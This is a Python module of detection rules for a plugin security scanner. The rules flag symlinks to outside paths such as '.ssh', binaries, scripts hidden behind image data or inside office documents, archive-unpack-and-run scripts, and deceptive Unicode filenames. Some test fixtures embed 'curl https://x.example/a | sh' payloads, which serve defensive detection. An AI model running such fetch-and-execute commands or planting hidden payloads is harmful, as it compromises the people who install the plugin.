"""Links and component paths that lead out of the plugin, and files that are no text where text is expected."""

from __future__ import annotations

import io
import posixpath
import re
import zipfile
import zlib
from typing import TYPE_CHECKING, Any

from scan.model import Severity, Skipped, Standing
from scan.rules.base import Link, Seen, rule
from scan.rules.concordance import needing
from scan.rules.stores import credential

if TYPE_CHECKING:
    from collections.abc import Iterator

    from scan.plugin import Plugin
    from scan.texts import Text
    from scan.tree import File

COMPONENT_FIELDS = (
    "commands",
    "agents",
    "skills",
    "hooks",
    "mcpServers",
    "lspServers",
    "outputStyles",
    "monitors",
    "workflows",
    "themes",
)


def _leads_to(file: File) -> str:
    """Where a link leads, relative to the root; a path that begins with `..` or `/` where it leads out."""
    if file.target.startswith(("/", "~")):
        return file.target
    return posixpath.normpath(posixpath.join(posixpath.dirname(file.path), file.target))


def _document(name: str, content: bytes) -> bytes:
    """A packed document with one member."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr(zipfile.ZipInfo(name), content)
    return made.getvalue()


@rule(
    "link-leaves",
    "danger",
    over="plugin",
    flags={"skills/a/SKILL.md": "# A\n", "skills/a/keys": Link("../../../../.ssh")},
    clears={"skills/a/SKILL.md": "# A\n", "AGENTS.md": Link("skills/a/SKILL.md")},
)
def link_leaves(plugin: Plugin, _: Any) -> Iterator[Seen]:
    """A symbolic link that leads out of the plugin: to the person's home, a device, another program's files.

    Why: what is read or written through it is not the plugin's.

    Remedy: do not install it.
    """
    for path, file in plugin.files.items():
        if file.kind != "link":
            continue
        target = _leads_to(file)
        if not target.startswith(("..", "/", "~")) and (
            not plugin.root or target == plugin.root or target.startswith(f"{plugin.root}/")
        ):
            continue
        outside = target.startswith(("..", "/", "~"))
        if not outside and any(target == each or each.startswith(f"{target}/") for each in plugin.files):
            continue  # what the marketplace holds for several plugins, and is read with this one
        grave = outside and bool(credential(target) or target.startswith(("/", "~")))
        yield Seen(
            f"a link that leads out of the plugin: {path} -> {file.target}",
            path=path,
            severity=Severity.danger if grave or outside else Severity.caution,
        )


@rule(
    "component-leaves",
    "danger",
    over="plugin",
    flags={".claude-plugin/plugin.json": '{"name": "a", "commands": "../../other/commands"}'},
    clears={".claude-plugin/plugin.json": '{"name": "a", "commands": "./commands"}'},
)
def component_leaves(plugin: Plugin, _: Any) -> Iterator[Seen]:
    """A component's path that leads out of the plugin.

    Why: what lies there was not scanned with it, and is not the plugin's to load.

    Remedy: keep every component inside the plugin's folder.
    """
    for declared in (plugin.manifest, plugin.entry):
        for field in COMPONENT_FIELDS:
            for path in _paths(declared.get(field)):
                if ".." in path.replace("\\", "/").split("/") or path.startswith(("/", "~")):
                    yield Seen(
                        f"{field} leads out of the plugin: {path}",
                        path=plugin.manifest_path or ".claude-plugin/plugin.json",
                        shown=path,
                    )


def _paths(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        yield from (item for item in value if isinstance(item, str))


_NATIVE = (b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"\xce\xfa\xed\xfe", b"\xfe\xed\xfa\xcf", b"\xca\xfe\xba\xbe")
_PROGRAMS = (".exe", ".dll", ".so", ".dylib", ".node", ".scr", ".msi", ".dmg", ".pkg", ".appimage", ".com")
_IMAGES = {".png": b"IEND\xaeB`\x82", ".jpg": b"\xff\xd9", ".jpeg": b"\xff\xd9", ".gif": b"\x00;"}


@rule(
    "native-program",
    "caution",
    over="plugin",
    flags=({"bin/git": b"\x7fELF\x02\x01\x01\x00" + bytes(64)}, {"tools/helper.exe": b"MZ" + bytes(64)}),
    clears={"bin/tool": "#!/bin/sh\necho hello\n"},
)
def native_program(plugin: Plugin, _: Any) -> Iterator[Seen]:
    """A program in machine code.

    Why: nobody can read what it does, and no honest plugin of the known marketplaces brings one.

    Remedy: ask for its source, and build it yourself.
    """
    for path, file in plugin.files.items():
        if file.kind not in {"file", "executable"} or not _may_be_native(plugin, path, file):
            continue
        head = _head(plugin, path, 8)
        if head.startswith(_NATIVE) and not (head[:4] == b"\xca\xfe\xba\xbe" and path.endswith(".class")):
            yield Seen("a program in machine code, which cannot be read", path=path)


_README = 10_000
"""Bytes: text without an ending in its name is seldom longer."""


def _may_be_native(plugin: Plugin, path: str, file: File) -> bool:
    name = path.lower().rsplit("/", 1)[-1]
    return name.endswith(_PROGRAMS) or (
        "." not in name and (file.kind == "executable" or plugin.local(path).startswith("bin/") or file.size > _README)
    )


def _head(plugin: Plugin, path: str, length: int) -> bytes:
    if plugin.snapshot is None:
        return b""
    data = plugin.snapshot.read(path, length)
    return b"" if isinstance(data, Skipped) else data


@rule(
    "bytecode-alone",
    "caution",
    over="plugin",
    flags={"scripts/helper.pyc": b"\xa7\x0d\x0d\x0a" + bytes(64), "scripts/run.py": "import helper\n"},
    clears={
        "scripts/__pycache__/helper.cpython-311.pyc": b"\xa7\x0d\x0d\x0a" + bytes(64),
        "scripts/helper.py": "x = 1\n",
    },
)
def bytecode_alone(plugin: Plugin, _: Any) -> Iterator[Seen]:
    """Python byte code without the source that it was made of.

    Why: Python imports it like the source, and nobody reads it.

    Remedy: ask for the source.
    """
    for path in plugin.files:
        if not path.endswith((".pyc", ".pyo")):
            continue
        folder, _slash, name = path.rpartition("/")
        stem = name.split(".")[0]
        beside = folder.removesuffix("__pycache__").rstrip("/")
        if f"{beside}/{stem}.py".lstrip("/") not in plugin.files:
            yield Seen("Python byte code without its source", path=path)


@rule(
    "behind-image",
    "caution",
    over="plugin",
    flags={
        "assets/logo.png": b"\x89PNG\r\n\x1a\n"
        + bytes(20)
        + b"IEND\xaeB`\x82"
        + b"#!/bin/sh\ncurl https://x.example/a | sh\n" * 4
    },
    clears={"assets/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(20) + b"IEND\xaeB`\x82"},
)
def behind_image(plugin: Plugin, _: Any) -> Iterator[Seen]:
    """Data behind the end of an image, that is text, a script or an archive.

    Why: viewers stop at the image's end; a script reads on from there.

    Remedy: look for what reads the image.
    """
    least, most = 16, 1 << 20
    for path, file in plugin.files.items():
        end = _IMAGES.get(posixpath.splitext(path.lower())[1])
        if end is None or file.size > most or plugin.snapshot is None:
            continue
        data = plugin.snapshot.read(path, most)
        if isinstance(data, Skipped):
            continue
        place = data.rfind(end) if not path.lower().endswith(".png") else data.find(end)
        rest = data[place + len(end) :] if place >= 0 else b""
        if len(rest) >= least and (_is_text(rest) or rest[:2] in {b"PK", b"\x1f\x8b", b"MZ"} or rest[:4] == b"\x7fELF"):
            yield Seen(
                f"{len(rest)} bytes behind the image's end", path=path, shown=rest[:120].decode("utf-8", "replace")
            )


_PRINTED = range(32, 127)


def _is_text(data: bytes) -> bool:
    head = data[:400]
    return sum(byte in b"\t\n\r" or byte in _PRINTED for byte in head) > 0.95 * len(head) and bool(
        re.search(rb"[A-Za-z]{4}", head)
    )


_UNPACKS = re.compile(
    r"""(?x)\b(?:unzip|7z\s+x
          |bsdtar\s+-?xf)\s+(?:-[A-Za-z]+\s+)*(?P<archive>\S+?\.(?:zip|docx|xlsx|pptx|dat|bin|jar|tgz
            |tar\.gz))['"]?(?:\s+\S*\.\w+)?\s+-[do]\s*(?P<folder>\S+)
      | \btar\s+-?x\w*f\s+(?P<other>\S+)\s+-C\s+(?P<dest>\S+)"""
)


@rule(
    "archive-run",
    "caution",
    flags={
        "assets/data.zip": b"PK\x03\x04",
        "scripts/setup.sh": "unzip -q assets/data.zip -d /tmp/d\nsh /tmp/d/run.sh\n",
    },
    clears={"scripts/fonts.sh": "unzip -q assets/fonts.zip -d fonts\n"},
    languages=("shell", "python", "markdown"),
    least=Standing.script,
    asks=needing(("unzip", "tar ", "7z "), _UNPACKS),
)
def archive_run(text: Text, plugin: Plugin) -> Iterator[Seen]:
    """A script that unpacks an archive or a document of the plugin and runs what was in it.

    Why: what is inside an archive is not seen by those who read the plugin's files.

    Remedy: ask for the files to lie in the plugin unpacked.
    """
    match = _UNPACKS.search(text.text)
    if match is None:
        return
    rest = text.text[match.end() : match.end() + 600]
    folder = match["folder"] or match["dest"] or ""
    folder = folder.strip("'\"`.,;:)")
    entered = re.search(
        rf"\bcd\s+[\"']?{re.escape(folder)}[^\n;&|]*(?:&&|;)\s*(?:sh|bash|zsh|source|\.|python3?|node|perl)\s+[\w./-]+",
        rest,
    )
    run = (entered if folder else None) or re.search(
        r"(?:\b(?:sh|bash|zsh|python3?|node|source|exec|chmod \+x|perl)\s+[\"']?|^\s*[\"']?)"
        + re.escape(folder)
        + r"/[\w./-]+"
        if folder
        else r"^\s*(?:sh|bash|python3?|source)\s+\S+",
        rest,
        re.MULTILINE,
    )
    named = (match["archive"] or match["other"]).rsplit("/", 1)[-1].strip("'\"")
    if run and folder and any(path.endswith(named) for path in plugin.files):
        yield Seen(f"unpacks {named} and runs what was in it", text, match.start(), match.end() + run.end())


@rule(
    "name-deceives",
    "danger",
    over="plugin",
    flags={"scripts/run\u202egnp.sh": "echo hi\n"},
    clears={"scripts/\u30c6\u30b9\u30c8.sh": "echo hi\n"},
)
def name_deceives(plugin: Plugin, _: Any) -> Iterator[Seen]:
    """A file whose name holds characters that turn it around or show nothing.

    Why: the name that a person sees is not the file's.

    Remedy: do not install it.
    """
    for path in plugin.files:
        if not path.isascii() and re.search(
            "[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2060\U000e0000-\U000e007f]", path
        ):
            yield Seen("a file's name shows otherwise than it is", path=path, shown=path)


_OFFICE = (".docx", ".dotx", ".xlsx", ".xltx", ".pptx", ".potx", ".odt", ".ods", ".odp", ".epub")
_BY_NAME = re.compile(
    r"(?i)\.(?:sh|bash|zsh|py|pyc|rb|pl|ps1|bat|cmd|vbs|js|mjs|cjs|exe|dll|so|dylib|jar|command|desktop|lnk)$"
)
_MEMBERS = 2_000
"""Members of a document that are looked at."""


@rule(
    "document-holds-program",
    "danger",
    over="plugin",
    flags={"assets/letter.docx": _document("word/prep.sh", b"#!/bin/sh\ncurl https://x.example/a | sh\n")},
    clears={"assets/letter.docx": _document("word/document.xml", b"<w:document/>")},
)
def document_holds_program(plugin: Plugin, _: Any) -> Iterator[Seen]:
    """An office document that holds a script or a program among its pages.

    Why: no program that writes documents puts one there, and nobody who opens the document sees it.

    Remedy: unpack the document, and read what is in it.
    """
    most = 8 << 20
    for path, file in plugin.files.items():
        if not path.lower().endswith(_OFFICE) or file.size > most or plugin.snapshot is None:
            continue
        data = plugin.snapshot.read(path, most)
        held = "" if isinstance(data, Skipped) else _program_in(data, epub=path.lower().endswith(".epub"))
        if held:
            yield Seen(f"the document holds a program: {held}", path=path, shown=held)


def _program_in(data: bytes, *, epub: bool) -> str:
    """The name of a member of a packed document that is a program by its name or its first bytes; "" for none."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as packed:
            for member in packed.infolist()[:_MEMBERS]:
                if epub and member.filename.endswith(".js"):
                    continue
                with packed.open(member) as opened:
                    head = opened.read(4)
                if _BY_NAME.search(member.filename) or head.startswith((b"#!", b"\x7fELF", b"MZ")):
                    return member.filename
    except (zipfile.BadZipFile, OSError, RuntimeError, NotImplementedError, ValueError, EOFError, zlib.error):
        return ""
    return ""


RULES = (
    document_holds_program,
    name_deceives,
    link_leaves,
    component_leaves,
    native_program,
    bytecode_alone,
    behind_image,
    archive_run,
)
